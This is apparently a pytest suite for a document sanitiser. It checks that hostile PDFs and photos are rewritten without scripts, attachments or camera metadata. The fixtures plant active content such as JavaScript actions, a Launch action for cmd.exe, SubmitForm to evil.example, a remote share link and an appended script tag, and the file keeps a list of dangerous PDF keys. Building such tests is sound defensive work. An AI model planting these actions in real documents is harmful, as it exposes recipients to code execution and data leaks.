"""What is left of a hostile PDF and of a photo when they are stored. No database."""

from __future__ import annotations

import io
import subprocess
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from PIL import Image, ImageCms

from hoso.files import cleaning, inspection
from tests.files import making

GPS = 0x8825
BAD = (
    b"/JS", b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"/XFA", b"/GoToR", b"/SubmitForm",
    b"/ImportData", b"/OpenAction", b"/AA", b"/Metadata", b"/Producer", b"/RichMedia", b"/Movie",
    b"/FileAttachment", b"secret-maker", b"/Rendition", b"/GoToE", b"/Filespec",
)  # fmt: skip
Name, Dictionary, Array = pikepdf.Name, pikepdf.Dictionary, pikepdf.Array


@pytest.fixture
def clean(tmp_path: Path) -> Any:
    def run(content: bytes) -> tuple[inspection.Inspected, bytes]:
        source, target = tmp_path / "in", tmp_path / "out"
        source.write_bytes(content)
        target.touch()
        found = inspection.clean(source, target)
        assert source.read_bytes() == content
        return found, target.read_bytes()

    return run


def planted() -> bytes:
    """One of everything, direct and indirect, in the places where makers and attackers put it."""
    made = making.pdf(2)
    script = made.make_indirect(Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
    root, page = made.Root, made.pages[0].obj
    root.OpenAction = script
    root.AA = Dictionary(WC=script)
    root.Names = Dictionary(JavaScript=Dictionary(Names=Array(["a", script])))
    root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<xdp/>"))
    root.Metadata = made.make_stream(b"<x:xmpmeta>secret-maker</x:xmpmeta>", Subtype=Name.XML)
    root.Collection = Dictionary(Type=Name.Collection)
    made.docinfo["/Producer"] = "secret-maker"
    made.attachments["luong.xlsm"] = b"PK macro"
    remote = Dictionary(S=Name.GoToR, F="\\\\evil\\share")
    submit = Dictionary(S=Name.SubmitForm, F="https://evil.example", Next=Array([script, remote]))
    outline = made.make_indirect(Dictionary(Title="x", A=Dictionary(S=Name.Launch, F="cmd.exe")))
    root.Outlines = Dictionary(First=outline, Last=outline)
    box = Array([0, 0, 9, 9])
    media = made.make_indirect(Dictionary(Subtype=Name.RichMedia, Rect=box))
    page.Annots = Array([
        Dictionary(Subtype=Name.Link, Rect=box, A=submit, PA=remote),
        Dictionary(Subtype=Name.Link, Rect=box, A=Dictionary(S=Name.URI, URI="https://gov.vn")),
        media,
        Dictionary(Subtype=Name.FileAttachment, Rect=box, FS=Dictionary(Type=Name.Filespec)),
        Dictionary(Subtype=Name.Movie, Rect=box),
        Dictionary(Subtype=Name.Widget, Rect=box, AA=Dictionary(K=Dictionary(S=Name.ImportData))),
        Dictionary(Subtype=Name.Text, Rect=box, Parent=media, A=Dictionary(S=Name.Rendition)),
    ])  # fmt: skip
    page.PieceInfo = Dictionary(Adobe=Dictionary(Private="secret-maker"))
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    page.Resources = Dictionary(Font=Dictionary(AA=font))
    page.Contents = made.make_stream(b"BT /AA 20 Tf 72 700 Td (Quyet dinh 12) Tj ET")
    return making.saved(made)


def test_a_pdf_is_written_anew_with_its_pages_alone(clean: Any, tmp_path: Path) -> None:
    found, content = clean(planted())
    assert (found.pages, found.is_rewritten) == (2, True)
    assert found.removed == ("action", "attachment", "maker")
    with pikepdf.open(io.BytesIO(content)) as pdf:
        assert "/AA" in pdf.pages[0].Resources.Font  # a font of an unlucky name still draws
        pdf.save(tmp_path / "plain.pdf", compress_streams=False, qdf=True)
    plain = (tmp_path / "plain.pdf").read_bytes().replace(b"/AA <<\n          /Base", b"<</Base")
    plain = plain.replace(b"/AA 20 Tf", b"")
    font = plain.index(b"/Font")
    assert [each for each in BAD if each in plain.replace(plain[font : font + 40], b"")] == []
    assert b"https://gov.vn" in plain  # a link that one may click is part of the page
    said = subprocess.run(
        ["pdftotext", "-", "-"], input=content, capture_output=True, check=True
    ).stdout
    assert b"Quyet dinh 12" in said
    again, twice = clean(content)
    assert twice == content and again.removed == ()


@pytest.mark.parametrize(
    ("plant", "reason"), [("script", "signed_active"), ("attachment", "signed_attachment")]
)
def test_a_signed_pdf_is_never_written_anew(clean: Any, plant: str, reason: str) -> None:
    made = making.pdf()
    value = made.make_indirect(
        Dictionary(Type=Name.Sig, ByteRange=Array([0, 1, 2, 3]), Contents=pikepdf.String("00"))
    )
    field = Dictionary(FT=Name.Sig, T="a", V=value)
    made.Root.AcroForm = Dictionary(Fields=Array([made.make_indirect(field)]), SigFlags=3)
    found, content = clean(making.saved(made))
    assert (found.is_rewritten, content) == (False, b"")
    if plant == "script":
        made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS="app.alert(1)")
    else:
        made.attachments["a.txt"] = b"x"
    with pytest.raises(inspection.RefusedContent) as refused:
        clean(making.saved(made))
    assert refused.value.reason == reason


def test_what_cannot_be_taken_out_is_refused(clean: Any) -> None:
    """A script that calls itself a picture is left by the cleaning and found by the check."""
    made = making.pdf()
    made.Root.JS = made.make_stream(b"app.alert(1)", Subtype=Name.Form)
    with pytest.raises(inspection.RefusedContent) as refused:
        clean(making.saved(made))
    assert refused.value.reason == "active"


def photo(form: str = "JPEG") -> bytes:
    """Red on the left and taken with the camera on its side, with where and by whom."""
    picture = Image.new("RGB", (90, 60), "blue")
    picture.paste((250, 0, 0), (0, 0, 45, 60))
    exif = Image.Exif()
    exif[0x0112], exif[0x010F] = 6, "secret-maker"
    exif[GPS] = {1: "N", 2: (9.0, 10.0, 36.0)}
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    target = io.BytesIO()
    given = {"comment": "secret-maker"} if form == "JPEG" else {}
    picture.save(target, form, exif=exif, icc_profile=profile, dpi=(300, 300), **given)
    return target.getvalue()


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_a_photo_is_drawn_anew_upright_and_says_nothing_of_the_camera(
    clean: Any, form: str
) -> None:
    found, content = clean(photo(form) + b"<script>alert(1)</script>")
    assert found.removed == ("maker",) and found.is_rewritten
    for each in (b"secret-maker", b"Exif", b"<script>", b"ICC", b"iCC"):
        assert each not in content
    with Image.open(io.BytesIO(content)) as image:
        assert image.size == (60, 90) and not image.getexif()
        top, bottom = image.getpixel((30, 10)), image.getpixel((30, 80))
        assert top[0] > 240 > 10 > top[2] and bottom[2] > 240 > 10 > bottom[0]
        assert round(image.info["dpi"][0]) == 300


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGBA", "I;16", "CMYK"])
def test_every_kind_of_picture_keeps_its_size_and_colour(clean: Any, mode: str) -> None:
    form, source = ("JPEG" if mode == "CMYK" else "PNG"), io.BytesIO()
    grey = Image.linear_gradient("L")
    made = Image.new(mode, grey.size) if mode == "I;16" else grey.convert("RGB").convert(mode)
    made.save(source, form)
    _, content = clean(source.getvalue())
    with Image.open(io.BytesIO(content)) as image, Image.open(source) as before:
        assert image.size == before.size
        if mode != "I;16":
            pair = [
                each.convert("RGB").convert("L").getpixel((128, 250)) for each in (image, before)
            ]
            assert abs(pair[0] - pair[1]) < 8


def test_a_picture_within_a_pdf_loses_the_notes_of_the_camera(clean: Any) -> None:
    made, jpeg = making.pdf(), photo()
    picture = pikepdf.Stream(
        made, jpeg, Type=Name.XObject, Subtype=Name.Image, Width=90, Height=60,
        ColorSpace=Name.DeviceRGB, BitsPerComponent=8, Filter=Name.DCTDecode,
    )  # fmt: skip
    made.pages[0].obj.Resources = Dictionary(XObject=Dictionary(Im0=picture))
    _, content = clean(making.saved(made))
    assert b"secret-maker" not in content and b"Exif" not in content
    with pikepdf.open(io.BytesIO(content)) as pdf:
        kept = pikepdf.PdfImage(pdf.pages[0].Resources.XObject.Im0).as_pil_image()
        assert kept.size == (90, 60) and kept.getpixel((5, 30))[0] > 240
    assert cleaning.without_notes(b"\xff\xd8\xff") == b"\xff\xd8\xff"
